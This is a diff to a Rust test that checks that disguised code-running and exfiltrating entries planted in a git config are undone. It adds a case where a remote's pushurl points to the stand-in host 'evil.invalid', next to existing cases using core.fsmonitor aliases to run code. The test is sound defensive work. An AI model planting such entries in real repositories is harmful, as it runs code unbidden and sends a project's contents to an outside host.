@@ -777,7 +777,8 @@ print('not stopped')
 /// continue; an empty quoted string before an alias's `!`; `\b`, which
 /// git keeps as a byte) and aliases that run code without `!` (`-c
 /// core.fsmonitor=…`) are undone like a plain
-/// `core.fsmonitor`. The host then runs git, including the alias.
+/// `core.fsmonitor`, and so is a remote's push URL sent elsewhere (a push
+/// of the project to another host). The host then runs git, including the alias.
 #[test]
 fn a_disguised_code_entry_in_a_replaced_config_is_undone() {
     if !git_available() {
@@ -806,6 +807,10 @@ fn a_disguised_code_entry_in_a_replaced_config_is_undone() {
         (
             "an alias with -c",
             format!("\n[alias]\n\tst = -c \"core.fsmonitor={code}; false\" status\n"),
+        ),
+        (
+            "a push URL elsewhere",
+            "\n[remote \"origin\"]\n\tpushurl = https://evil.invalid/r\n".to_string(),
         ),
     ];
     for (what, plant) in &plants {
